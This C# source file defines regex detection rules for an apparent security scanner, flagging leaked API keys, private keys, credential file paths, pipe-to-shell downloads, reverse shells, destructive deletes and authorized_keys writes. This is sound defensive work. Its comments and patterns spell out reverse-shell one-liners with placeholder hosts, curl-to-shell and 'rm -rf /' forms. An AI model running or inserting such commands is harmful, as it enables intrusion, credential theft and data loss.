using System.Text.RegularExpressions;

namespace ClawSec.Core.Detection;

/// <summary>
/// The built-in rules: the twelve named as in the original so users' alerts keep firing, then secrets in documented
/// formats and further injections. Every quantifier is bounded, so each rule's <see cref="Rule.MaxMatchLength"/> is
/// a true bound, which streaming relies on.
/// </summary>
internal static partial class DefaultRules
{
    private const RegexOptions Options = RegexOptions.CultureInvariant | RegexOptions.ExplicitCapture;

    // Boundaries: a token must not continue a longer word, so "task-antelope" is not "sk-ant…" and
    // "1.1.1nc" is not "nc".
    private const string NoKeyCharBefore = "(?<![A-Za-z0-9_-])";
    private const string NoKeyCharAfter = "(?![A-Za-z0-9_-])";
    private const string NoWordBefore = "(?<![A-Za-z0-9_.-])";

    // A path separator as it appears raw, JSON-escaped (\/), Windows-style or URL-encoded.
    private const string Sep = @"(?:\\?/|\\{1,2}|%2[Ff])";

    // The shell a downloaded script is piped into, optionally through sudo or env.
    private const string Shell =
        @"(?:sudo(?:[ \t]{1,8}-[A-Za-z]{1,8}){0,4}[ \t]{1,8})?(?:/usr/bin/env[ \t]{1,8})?(?:/usr)?(?:/bin/)?"
        + "(?:ba|z|k|da|a|fi)?sh(?![A-Za-z0-9_.-])";

    // An interpreter reading its program from the pipe: "python3", "python3 -", but not "python3 -m json.tool".
    private const string Interpreter =
        @"(?:sudo(?:[ \t]{1,8}-[A-Za-z]{1,8}){0,4}[ \t]{1,8})?(?:/usr)?(?:/bin/)?(?:python[0-9.]{0,4}|perl|ruby|node|php)"
        + @"(?:[ \t]{1,8}-(?![A-Za-z0-9-]))?(?=[ \t]{0,8}(?:$|[;&|)""'`\r\n]|\\n))";

    // An optional quote, raw or escaped once or twice (a command in a tool call's arguments is JSON in JSON).
    private const string Quote = @"(?:\\{0,3}[""'])?";

    // A single pipe, not the "||" of a fallback. The pipe comes first and the check of the character before it
    // after, so that a lazy span ending at a pipe is a vectorised search for the next '|'.
    private const string Pipe = @"\|(?<!\|\|)(?!\|)[ \t]{0,8}";

    private static Dictionary<string, int> Offsets(params (string Keyword, int Offset)[] offsets) =>
        offsets.ToDictionary(o => o.Keyword, o => o.Offset, StringComparer.OrdinalIgnoreCase);

    private static HashSet<string> Words(params string[] keywords) => new(keywords, StringComparer.OrdinalIgnoreCase);

    public static IEnumerable<Rule> Create() => [.. CreateOriginalRules(), .. CreateSecretRules(), .. CreateInjectionRules()];

    /// <summary>The twelve rules of the original's names; they apply in both directions as the original's did.</summary>
    private static IEnumerable<Rule> CreateOriginalRules() =>
    [
        new Rule
        {
            Name = "ai_api_key",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.Critical,
            Description = "An AI provider API key (Anthropic, OpenAI, OpenRouter, Groq, xAI).",
            Regex = AiApiKey,
            Anchored = AiApiKeyAnchored,
            Keywords = ["sk-", "gsk_", "xai-"],
            IsSecret = true,
            MaxMatchLength = 512,
            MaxKeywordOffset = 0,
        },
        new Rule
        {
            Name = "aws_access_key",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.Critical,
            Description = "An AWS access key id.",
            Regex = AwsAccessKey,
            Anchored = AwsAccessKeyAnchored,
            Keywords = ["akia", "asia", "abia", "acca"],
            IsSecret = true,
            MaxMatchLength = 32,
            MaxKeywordOffset = 0,
        },
        new Rule
        {
            Name = "private_key_pem",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.Critical,
            Description = "A PEM or PGP private key block.",
            Regex = PrivateKeyPem,
            Anchored = PrivateKeyPemAnchored,
            Keywords = ["private key"],
            IsSecret = true,
            MaxMatchLength = 8192,
            MaxKeywordOffset = 32,
        },
        new Rule
        {
            Name = "ssh_key_file",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.High,
            Description = "A path to an SSH private key file.",
            Regex = SshKeyFile,
            Anchored = SshKeyFileAnchored,
            Keywords = ["id_rsa", "id_dsa", "id_ecdsa", "id_ed25519"],
            MaxMatchLength = 64,
            MaxKeywordOffset = 8,
        },
        new Rule
        {
            Name = "unix_sensitive",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.High,
            Description = "A path to the system's account or privilege files.",
            Regex = UnixSensitive,
            Anchored = UnixSensitiveAnchored,
            Keywords = ["passwd", "shadow", "sudoers"],
            MaxMatchLength = 64,
            MaxKeywordOffset = 12,
        },
        new Rule
        {
            Name = "dotenv_file",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.High,
            Description = "A path to a credentials file (.env or AWS credentials).",
            Regex = DotenvFile,
            Anchored = DotenvFileAnchored,
            Keywords = [".env", "credentials"],
            MaxMatchLength = 64,
            MaxKeywordOffset = 12,
        },
        new Rule
        {
            Name = "ssh_pubkey",
            ThreatType = ThreatType.Exfil,
            Severity = Severity.Low,
            Description = "An SSH public key.",
            Regex = SshPubkey,
            Anchored = SshPubkeyAnchored,
            Keywords = ["ssh-", "ecdsa-sha2"],
            MaxMatchLength = 2048,
            MaxKeywordOffset = 4,
        },
        new Rule
        {
            Name = "pipe_to_shell",
            ThreatType = ThreatType.Injection,
            Severity = Severity.High,
            Description = "A downloaded or decoded script piped into a shell.",
            Regex = PipeToShell,
            Anchored = PipeToShellAnchored,
            MayStartAt = CommandPlaceChecks.PipeToShell,
            Keywords = ["curl", "wget", "base64", "xxd", "iwr", "irm", "invoke-webrequest", "invoke-restmethod", "<("],
            MaxMatchLength = 1024,
            MaxKeywordOffset = 32,

            // "bash <(curl …)" holds "<(" near its start; every other branch starts at its keyword.
            KeywordOffsets = Offsets(("curl", 0), ("wget", 0), ("<(", 16)),
            WordKeywords = Words("curl", "wget", "base64", "xxd", "iwr", "irm", "invoke-webrequest", "invoke-restmethod"),
        },
        new Rule
        {
            Name = "shell_exec",
            ThreatType = ThreatType.Injection,
            Severity = Severity.High,
            Description = "Code that runs a command through a shell.",
            Regex = ShellExec,
            Anchored = ShellExecAnchored,
            Keywords =
            [
                "os.system", "os.popen", "os.exec", "subprocess", "child_process", "getruntime", "eval", "-c", "iex",
                "invoke-expression", "powershell", "pwsh", "shell_exec", "passthru", "proc_open", "__import__",
                "b64decode", "fromhex", "decompress", "marshal.loads", "codecs.decode", "urlopen", "requests.get",
                "atob", "buffer.from", "unescape", "$_get", "$_post", "$_request", "$_cookie", "processbuilder",
            ],
            MaxMatchLength = 1024,
            MaxKeywordOffset = 256,
            KeywordOffsets = Offsets(
                ("os.system", 0), ("os.popen", 0), ("os.exec", 0), ("subprocess", 0), ("getruntime", 8), ("eval", 0), ("-c", 0),
                ("iex", 0), ("invoke-expression", 0), ("powershell", 0), ("pwsh", 0), ("shell_exec", 0),
                ("passthru", 0), ("proc_open", 0), ("__import__", 32), ("b64decode", 112), ("fromhex", 112),
                ("decompress", 112), ("marshal.loads", 112), ("codecs.decode", 112), ("urlopen", 112),
                ("requests.get", 112), ("atob", 28), ("buffer.from", 28), ("unescape", 28), ("$_get", 44),
                ("$_post", 44), ("$_request", 44), ("$_cookie", 44), ("processbuilder", 12)),
            WordKeywords = Words(
                "os.system", "os.popen", "os.exec", "subprocess", "eval", "-c", "iex", "invoke-expression", "powershell", "pwsh", "atob"),
        },
        new Rule
        {
            Name = "reverse_shell",
            ThreatType = ThreatType.Injection,
            Severity = Severity.Critical,
            Description = "A command that connects a shell to a remote host.",
            Regex = ReverseShell,
            Anchored = ReverseShellAnchored,
            Keywords =
            [
                "/dev/tcp", "/dev/udp", "nc ", "nc\t", "nc.", "ncat", "netcat", "mkfifo", "socat", "socket",
                "fsockopen", "telnet", "python", "perl", "php", "ruby", "tcpclient", "/inet/tcp", "node -e",
            ],
            MaxMatchLength = 1024,
            MaxKeywordOffset = 128,

            // "nc" and "telnet" may end "bash -i … | nc"; each other branch starts at a keyword of its own.
            KeywordOffsets = Offsets(
                ("/dev/tcp", 33), ("/dev/udp", 33), ("mkfifo", 0), ("socat", 0), ("python", 0), ("perl", 0), ("php", 0),
                ("ruby", 0), ("tcpclient", 40), ("/inet/tcp", 0), ("node -e", 0)),
            WordKeywords = Words("nc ", "nc\t", "nc.", "ncat", "netcat", "mkfifo", "socat", "telnet", "python", "perl", "php", "ruby", "node -e"),
        },
        new Rule
        {
            Name = "destructive_rm",
            ThreatType = ThreatType.Injection,
            Severity = Severity.Critical,
            Description = "A recursive delete of the root, a system directory or the home directory.",
            Regex = DestructiveRm,
            Anchored = DestructiveRmAnchored,
            Keywords = ["rm ", "rm\t", "rd ", "rmdir", "remove-item"],
            MaxMatchLength = 1024,
            MaxKeywordOffset = 0,
            WordKeywords = Words("rm ", "rm\t", "rd ", "rmdir", "remove-item"),
        },
        new Rule
        {
            Name = "ssh_key_inject",
            ThreatType = ThreatType.Injection,
            Severity = Severity.Critical,
            Description = "A write to an SSH authorized_keys file.",
            Regex = SshKeyInject,
            Anchored = SshKeyInjectAnchored,
            Keywords = ["authorized_keys"],
            MaxMatchLength = 1024,
            MaxKeywordOffset = 640,
        },
    ];

    private const string AiApiKeyPattern =
        NoKeyCharBefore + "(?:"
        + "sk-ant-[A-Za-z0-9_-]{20,400}" // Anthropic
        + "|sk-(?:proj|svcacct|admin)-[A-Za-z0-9_-]{20,400}" // OpenAI project, service account, admin keys
        + "|sk-or-v1-[0-9a-f]{64}" + NoKeyCharAfter // OpenRouter
        + "|sk-[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20}" + NoKeyCharAfter // OpenAI legacy
        + "|gsk_[A-Za-z0-9]{40,100}" + NoKeyCharAfter // Groq
        + "|xai-[A-Za-z0-9]{40,120}" + NoKeyCharAfter // xAI
        + "|sk-(?=[A-Za-z]{0,400}[0-9])[A-Za-z0-9]{32,400}" + NoKeyCharAfter // other sk- keys: long, with digits
        + ")";

    [GeneratedRegex(AiApiKeyPattern, Options)]
    private static partial Regex AiApiKey { get; }

    [GeneratedRegex(@"\G(?:" + AiApiKeyPattern + ")", Options)]
    private static partial Regex AiApiKeyAnchored { get; }

    private const string AwsAccessKeyPattern =
        "(?<![A-Za-z0-9])(?:AKIA|ASIA|ABIA|ACCA)[A-Z2-7]{16}(?![A-Za-z0-9])";

    [GeneratedRegex(AwsAccessKeyPattern, Options)]
    private static partial Regex AwsAccessKey { get; }

    [GeneratedRegex(@"\G(?:" + AwsAccessKeyPattern + ")", Options)]
    private static partial Regex AwsAccessKeyAnchored { get; }

    // The header, then the key body (base64 lines, raw or JSON-escaped newlines, "Proc-Type:"-style headers, the
    // one-line form with spaces) up to the END line, so that redacting the value removes the key material.
    // A space continues the body only after a colon or before a long base64 run, so trailing prose is not taken.
    private const string PrivateKeyPemPattern =
        "(?:-----BEGIN (?:(?:RSA|DSA|EC|OPENSSH|ENCRYPTED|SSH2 ENCRYPTED) )?PRIVATE KEY-----"
        + "|-----BEGIN PGP PRIVATE KEY BLOCK-----)"
        + @"(?:[A-Za-z0-9+/=\r\n\t,:\\]|-(?!----)|(?<=:) |[ ](?=[A-Za-z0-9+/=]{16})){0,7800}"
        + "(?:-----END [A-Z0-9 ]{0,40}-----)?";

    [GeneratedRegex(PrivateKeyPemPattern, Options)]
    private static partial Regex PrivateKeyPem { get; }

    [GeneratedRegex(@"\G(?:" + PrivateKeyPemPattern + ")", Options)]
    private static partial Regex PrivateKeyPemAnchored { get; }

    // Private keys only: the public half (.pub) and certificates (-cert) are not secrets.
    private const string SshKeyFilePattern =
        NoWordBefore + @"\.ssh" + Sep + @"id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?" + NoKeyCharAfter + @"(?!\.pub)";

    [GeneratedRegex(SshKeyFilePattern, Options)]
    private static partial Regex SshKeyFile { get; }

    [GeneratedRegex(@"\G(?:" + SshKeyFilePattern + ")", Options)]
    private static partial Regex SshKeyFileAnchored { get; }

    // Anything may precede the separator: a URL path (host/etc/passwd), traversal (../../etc/passwd) or a prefix
    // (/usr/local/etc/passwd) all name the file, as the original's plain pattern did. A documented template
    // (/etc/passwd.example) does not; a backup (/etc/passwd.bak, /etc/shadow-) still does.
    private const string UnixSensitivePattern =
        Sep + "etc" + Sep + @"(?:passwd|shadow|gshadow|sudoers(?:\.d)?|master\.passwd)"
        + @"(?![A-Za-z0-9_]|\.(?:example|sample|template|dist)(?![A-Za-z0-9_]))";

    [GeneratedRegex(UnixSensitivePattern, Options)]
    private static partial Regex UnixSensitive { get; }

    [GeneratedRegex(@"\G(?:" + UnixSensitivePattern + ")", Options)]
    private static partial Regex UnixSensitiveAnchored { get; }

    // .env and its variants (.env.local, .env.production) but not the committed templates (.env.example).
    private const string DotenvFilePattern =
        Sep + "(?:"
        + @"\.env(?!\.(?:example|sample|template|dist|defaults)" + NoKeyCharAfter + @")(?:\.[A-Za-z0-9_-]{1,32})?"
        + NoKeyCharAfter
        + @"|\.aws" + Sep + "credentials" + NoKeyCharAfter
        + ")";

    [GeneratedRegex(DotenvFilePattern, Options)]
    private static partial Regex DotenvFile { get; }

    [GeneratedRegex(@"\G(?:" + DotenvFilePattern + ")", Options)]
    private static partial Regex DotenvFileAnchored { get; }

    private const string SshPubkeyPattern =
        NoKeyCharBefore + "(?:"
        + @"ssh-(?:rsa|dss|ed25519)(?:-cert-v01@openssh\.com)?"
        + @"|ecdsa-sha2-nistp(?:256|384|521)(?:-cert-v01@openssh\.com)?"
        + @"|sk-ssh-ed25519@openssh\.com|sk-ecdsa-sha2-nistp256@openssh\.com"
        + @")[ \t]{1,8}[A-Za-z0-9+/]{40,1600}={0,3}";

    [GeneratedRegex(SshPubkeyPattern, Options)]
    private static partial Regex SshPubkey { get; }

    [GeneratedRegex(@"\G(?:" + SshPubkeyPattern + ")", Options)]
    private static partial Regex SshPubkeyAnchored { get; }

    private const string PipeToShellPattern =
        NoKeyCharBefore + "(?:curl|wget)" + NoKeyCharAfter + @"[^\r\n]{0,300}?" + Pipe + "(?:" + Shell + "|" + Interpreter + ")"
        + "|" + NoKeyCharBefore + @"(?:base64[ \t]{1,8}(?:-[A-Za-z]{0,4}[dD][A-Za-z]{0,4}|--decode)|xxd[ \t]{1,8}(?:-[a-z][ \t]{1,8}){0,2}-r)"
        + NoKeyCharAfter + @"[^\r\n]{0,200}?" + Pipe + "(?:" + Shell + "|" + Interpreter + ")"
        + "|" + NoKeyCharBefore + @"(?:(?:ba|z|k|da)?sh|source)[ \t]{1,8}<\([ \t]{0,8}(?:curl|wget)" + NoKeyCharAfter
        + "|(?i:" + NoKeyCharBefore + "(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)" + NoKeyCharAfter
        + @"[^\r\n]{0,300}?" + Pipe + "(?:iex|invoke-expression)" + NoKeyCharAfter + ")";

    [GeneratedRegex(PipeToShellPattern, Options)]
    private static partial Regex PipeToShell { get; }

    [GeneratedRegex(@"\G(?:" + PipeToShellPattern + ")", Options)]
    private static partial Regex PipeToShellAnchored { get; }

    // Code that hands a string to a shell. Running a fixed command (sh -c 'npm test') is ordinary and not matched;
    // running what was just downloaded (eval "$(curl …)") is.
    private const string ShellExecPattern =
        @"(?<![A-Za-z0-9_.])os\.(?:system|popen|exec(?:l|le|lp|lpe|v|ve|vp|vpe))[ \t]{0,4}\("
        + @"|(?<![A-Za-z0-9_.])subprocess\.(?:run|call|check_call|check_output|Popen)[ \t]{0,4}\("
        + @"[^\r\n;]{0,300}?(?<![A-Za-z0-9_])shell[ \t]{0,4}=[ \t]{0,4}True(?![A-Za-z0-9_])"
        + @"|(?<![A-Za-z0-9_.])subprocess\.(?:getoutput|getstatusoutput)[ \t]{0,4}\("
        + @"|child_process['""`]?\)?[ \t]{0,4}\.[ \t]{0,4}(?:exec|execSync)[ \t]{0,4}\("
        // exec taken from child_process by destructuring or import, to be called by its bare name.
        + @"|(?:\{[^{}\r\n]{0,100}(?<![A-Za-z0-9_$])exec(?:Sync)?(?![A-Za-z0-9_$])[^{}\r\n]{0,100}\}[ \t]{0,4}=[ \t]{0,4}"
        + @"require[ \t]{0,4}\([ \t]{0,4}"
        + @"|import[ \t]{0,8}\{[^{}\r\n]{0,100}(?<![A-Za-z0-9_$])exec(?:Sync)?(?![A-Za-z0-9_$])[^{}\r\n]{0,100}\}[ \t]{0,8}"
        + @"from[ \t]{0,8})['""](?:node:)?child_process['""]"
        + @"|Runtime\.getRuntime\(\)[ \t]{0,4}\.[ \t]{0,4}exec[ \t]{0,4}\("
        // eval "$(curl …)", sh -c "$(curl …)"; the second starts at "-c", its keyword, with the shell read behind it.
        + "|(?:" + NoKeyCharBefore + "eval|(?<=" + NoKeyCharBefore + @"(?:ba|z|k|da)?sh[ \t]{1,8})-c)[ \t]{1,8}" + Quote
        + @"(?:\$\(|`)[ \t]{0,8}(?:curl|wget)" + NoKeyCharAfter
        + "|(?i:" + NoKeyCharBefore + "(?:iex|invoke-expression)" + NoKeyCharAfter
        + @"(?:[^\r\n]{0,200}?(?:\.downloadstring|::frombase64string)[ \t]{0,4}\("
        + @"|[ \t]{0,4}\(?[ \t]{0,4}\(?[ \t]{0,4}(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)" + NoKeyCharAfter + "))"
        // Python running code it decoded or downloaded; __import__('os').system(…).
        + @"|(?<![A-Za-z0-9_.])(?:exec|eval)[ \t]{0,4}\([ \t]{0,4}(?:compile[ \t]{0,4}\([ \t]{0,4})?"
        + @"(?:__import__[ \t]{0,4}\([^()\r\n]{1,40}\)[ \t]{0,4}\.[ \t]{0,4})?"
        + @"(?:(?:base64\.)?b64decode|codecs\.decode|(?:bytes\.)?fromhex|(?:zlib\.|gzip\.|lzma\.|bz2\.)?decompress|marshal\.loads"
        + @"|(?:urllib\.request\.)?urlopen|requests\.get)[ \t]{0,4}\("
        + @"|__import__[ \t]{0,4}\([ \t]{0,4}['""]os['""][ \t]{0,4}\)[ \t]{0,4}\.[ \t]{0,4}(?:system|popen)[ \t]{0,4}\("
        // JavaScript evaluating decoded text; PHP running request input; Java starting "sh -c".
        + @"|(?<![A-Za-z0-9_$.])(?:eval|new[ \t]{1,8}Function)[ \t]{0,4}\([ \t]{0,4}(?:atob|Buffer\.from|unescape)[ \t]{0,4}\("
        + @"|(?<![A-Za-z0-9_$>:.-])(?:system|exec|passthru|shell_exec|popen|proc_open|assert|eval)[ \t]{0,4}\([ \t]{0,4}"
        + @"(?:base64_decode[ \t]{0,4}\([ \t]{0,4})?\$_(?:GET|POST|REQUEST|COOKIE)"
        + @"|new[ \t]{1,8}ProcessBuilder[ \t]{0,4}\([ \t]{0,4}(?:(?:new[ \t]{1,8}String\[\][ \t]{0,4}\{|List\.of\(|Arrays\.asList\()[ \t]{0,4})?"
        + @"""(?:/bin/)?(?:ba)?sh""[ \t]{0,4},[ \t]{0,4}""-c"""
        // -e, -ec or any prefix of -EncodedCommand, followed by the base64 command.
        + "|(?i:" + NoKeyCharBefore + @"(?:powershell|pwsh)(?:\.exe)?" + NoKeyCharAfter + @"[^\r\n]{0,100}?[ \t]-"
        + "(?:ec|e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?)"
        + @"[ \t]{1,8}[A-Za-z0-9+/=]{20,600})"
        + @"|(?<![A-Za-z0-9_$>:.-])(?:shell_exec|passthru|proc_open)[ \t]{0,4}\(";

    [GeneratedRegex(ShellExecPattern, Options)]
    private static partial Regex ShellExec { get; }

    [GeneratedRegex(@"\G(?:" + ShellExecPattern + ")", Options)]
    private static partial Regex ShellExecAnchored { get; }

    private const string ReverseShellPattern =
        // bash -i >& /dev/tcp/host/port 0>&1, or any use of bash's network redirection.
        "(?:" + NoKeyCharBefore + @"(?:ba|z|k|da)?sh[ \t]{1,8}-i[ \t]{0,8}(?:[0-9]?>&|&>|>)[ \t]{0,8})?"
        + @"/dev/(?:tcp|udp)/(?:[A-Za-z0-9.:_-]{1,255}/[0-9]{1,5}(?:[ \t]{0,8}0>&1)?)?"
        // nc -e /bin/sh, ncat host port -e cmd.exe; a plain "nc -zv host 443" has no program to run.
        + "|" + NoWordBefore + @"(?:nc|ncat|netcat)(?:\.(?:traditional|openbsd))?(?:[ \t]{1,8}[^\s|;&]{1,100}){0,6}?"
        + @"[ \t]{1,8}-[A-Za-z]{0,4}[ec][ \t]{0,8}(?:[^\s|;&'""]{0,40}/)?"
        + @"(?:(?:ba|z|k|da|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)" + NoKeyCharAfter
        // mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f
        + "|" + NoKeyCharBefore + "mkfifo" + NoKeyCharAfter + @"[^\r\n]{0,200}?" + NoWordBefore
        + @"(?:nc|ncat|netcat|telnet|openssl[ \t]{1,8}s_client)[ \t]"
        + "|" + NoKeyCharBefore + @"(?:ba|z|k|da)?sh[ \t]{1,8}-i" + NoKeyCharAfter + @"[^\r\n|]{0,100}\|[ \t]{0,8}"
        + @"(?:nc|ncat|netcat|telnet)[ \t]"
        + "|(?i:" + NoKeyCharBefore + "socat" + NoKeyCharAfter + @"[^\r\n]{0,200}?" + NoKeyCharBefore + "(?:exec|system):)"
        // One-liners that open a socket and hand it a shell.
        + "|" + NoKeyCharBefore + @"python[0-9.]{0,4}[ \t]{1,8}-c[^\r\n]{0,300}?(?<![A-Za-z0-9_])socket(?![A-Za-z0-9_])"
        + @"[^\r\n]{0,400}?(?<![A-Za-z0-9_])(?:subprocess|pty|dup2)(?![A-Za-z0-9_])"
        + "|" + NoKeyCharBefore + @"perl[ \t]{1,8}[^\r\n]{0,60}?(?<![A-Za-z0-9_])-e(?![A-Za-z0-9_])[^\r\n]{0,300}?"
        + @"(?:Socket|socket[ \t]{0,4}\()[^\r\n]{0,400}?"
        + @"(?:(?<![A-Za-z0-9_])(?:exec|system)(?![A-Za-z0-9_])|open[ \t]{0,4}\([ \t]{0,4}STD(?:IN|OUT|ERR))"
        + "|" + NoKeyCharBefore + @"php[ \t]{1,8}-r[^\r\n]{0,300}?fsockopen[ \t]{0,4}\("
        + "|" + NoKeyCharBefore + @"ruby[ \t]{1,8}-rsocket" + NoKeyCharAfter
        + "|" + NoKeyCharBefore + @"ruby[ \t]{1,8}-e[^\r\n]{0,300}?TCPSocket[^\r\n]{0,400}?(?:exec|spawn|system|IO\.popen)"
        + "|" + NoKeyCharBefore + @"node[ \t]{1,8}-e[^\r\n]{0,600}?(?:connect|Socket)[ \t]{0,4}\([^\r\n]{0,600}?(?:/bin/(?:ba)?sh|cmd\.exe)"
        // PowerShell's TCP client, awk's /inet/tcp, and telnet piped through a shell into telnet.
        + @"|(?i:new-object[ \t]{1,8}(?:system\.)?net\.sockets\.tcpclient)"
        + @"|/inet/tcp/[0-9]{1,5}/[A-Za-z0-9.:_-]{1,255}/[0-9]{1,5}"
        + "|" + NoKeyCharBefore + @"telnet[ \t][^\r\n|]{1,100}\|[ \t]{0,8}(?:/bin/)?(?:ba)?sh[ \t]{0,8}(?:-i[ \t]{0,8})?\|[ \t]{0,8}telnet";

    [GeneratedRegex(ReverseShellPattern, Options)]
    private static partial Regex ReverseShell { get; }

    [GeneratedRegex(@"\G(?:" + ReverseShellPattern + ")", Options)]
    private static partial Regex ReverseShellAnchored { get; }

    // rm with a recursive flag aimed at /, /*, a top-level system directory, ~ or $HOME. The target must end
    // there: "rm -rf /tmp/build" or "rm -rf /var/lib/apt/lists/*" is housekeeping.
    private const string DestructiveRmPattern =
        NoWordBefore + "rm"
        + @"(?=(?:[ \t]{1,8}(?:-[A-Za-z]{1,8}|--[a-z-]{1,24}|--(?=[ \t]))){0,6}?[ \t]{1,8}"
        + @"(?:-[A-Za-z]{0,7}[rR][A-Za-z]{0,7}|--recursive)(?![A-Za-z-]))"
        + @"(?:[ \t]{1,8}(?:-[A-Za-z]{1,8}|--[a-z-]{1,24}|--(?=[ \t]))){1,6}"
        + @"(?:[ \t]{1,8}[^\s;&|<>]{1,100}){0,4}?"
        + @"[ \t]{1,8}(?:\\?[""'])?"
        + @"(?:/(?:(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|root|sbin|srv|sys|usr|var)/?)?\*?"
        + @"|~/?\*?|\$(?:HOME|\{HOME\})/?\*?)"
        + @"(?=[\s;&|)""'`\\,]|$)"
        // Windows: rd /s of a drive's root or its system folders; Remove-Item -Recurse of the same.
        + @"|(?i:" + NoWordBefore + @"(?:rd|rmdir)[ \t]{1,8}/s(?:[ \t]{1,8}/q)?[ \t]{1,8}[""']?[A-Za-z]:\\?(?:\*|windows|users)?"
        + @"(?=[\s""'`;&|]|$)"
        + "|" + NoWordBefore + @"remove-item[ \t][^\r\n;|]{0,60}?-recurse[^\r\n;|]{0,60}?[ \t][""']?[A-Za-z]:\\(?:\*|windows|users)?"
        + @"(?=[\s""'`;&|]|$))";

    [GeneratedRegex(DestructiveRmPattern, Options)]
    private static partial Regex DestructiveRm { get; }

    [GeneratedRegex(@"\G(?:" + DestructiveRmPattern + ")", Options)]
    private static partial Regex DestructiveRmAnchored { get; }

    // Redirection, tee, cp/mv/install or a Python open(…, "a"/"w") onto authorized_keys; reading it is not matched.
    private const string SshKeyInjectPattern =
        "(?:(?<![>&])(?:>>?|&gt;(?:&gt;)?)"
        + "|" + NoKeyCharBefore + @"tee(?:[ \t]{1,8}-[A-Za-z-]{1,12}){0,3}"
        + "|" + NoKeyCharBefore + @"(?:cp|mv|install)(?:[ \t]{1,8}-[A-Za-z-]{1,12}){0,3}(?:[ \t]{1,8}[^\s;|&<>'""]{1,200}){1,2}?"
        // A download saved onto it, or Node's appendFile/writeFile of it.
        + "|" + NoKeyCharBefore + @"(?:-[A-Za-z]{0,4}[oO]|--output(?:-document)?)(?:[ \t]{1,8}|=)"
        + @"|(?:appendFile|writeFile)(?:Sync)?[ \t]{0,4}\([ \t]{0,4})"
        + @"[ \t]{0,8}[""'`]?(?:[^\s'"";|&<>]{0,100}[/\\])?(?:\.ssh[/\\]|administrators_)authorized_keys2?(?![A-Za-z0-9_.-])"
        + @"|(?:\.ssh[/\\]{1,2}|administrators_)authorized_keys2?[""']\)?[ \t]{0,4},[ \t]{0,4}[""'][aw]";

    [GeneratedRegex(SshKeyInjectPattern, Options)]
    private static partial Regex SshKeyInject { get; }

    [GeneratedRegex(@"\G(?:" + SshKeyInjectPattern + ")", Options)]
    private static partial Regex SshKeyInjectAnchored { get; }
}
